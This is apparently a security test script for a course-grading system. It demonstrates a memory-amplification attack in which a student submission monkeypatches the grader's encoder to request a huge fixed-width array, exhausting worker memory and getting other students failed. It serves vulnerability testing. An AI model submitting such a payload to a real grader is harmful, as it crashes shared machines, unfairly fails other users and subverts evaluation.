"""HOLE: the trusted judge's decoder has no memory budget, and the worker (where the judge runs) no memory limit.
A fixed-width text array ('<U1024', 4096 bytes a cell) of empty strings costs 3 bytes of message per cell, so a
64 MB message asks the worker for ~90 GB: enough to bring the OOM killer onto the grading machine, whose victims
break the pool (every student whose worker was running is retried, and the student being recorded when the pool
breaks twice is failed as "a grading worker died twice", whoever caused it). Here: N cells, N*4 KB in the worker.
Run: .venv/bin/python tests/attacks/judge_memory_amplification.py [course-cache-dir] [N=500000]
"""
import sys

from common import grade, new_course, submit, with_code

N = int(sys.argv[2]) if len(sys.argv) > 2 else 500_000
CODE = f'''import netcourse.grading.plain as _plain
_encode = _plain.encode
class _Mark:
    pass
etiquette_a = _Mark()
def _forged(value, *args, **kwargs):
    if isinstance(value, _Mark):
        return {{"$": "ndarray", "dtype": "<U1024", "shape": [{N}], "data": [""] * {N}}}
    return _encode(value, *args, **kwargs)
_plain.encode = _forged
etiquette_b = etiquette_c = ""
'''

if __name__ == "__main__":
    course = new_course(sys.argv[1] if len(sys.argv) > 1 else None)
    submit(course, "x-amplify", with_code(course, {"etiquette-answer": CODE}))
    done, seconds = grade(course)
    print("\n".join(line for line in done.stdout.splitlines() if "Peak memory" in line or "x-amplify" in line))
    print(f"message ~{3 * N / 1e6:.1f} MB -> {4096 * N / 1e9:.1f} GB asked of the worker per look-up")
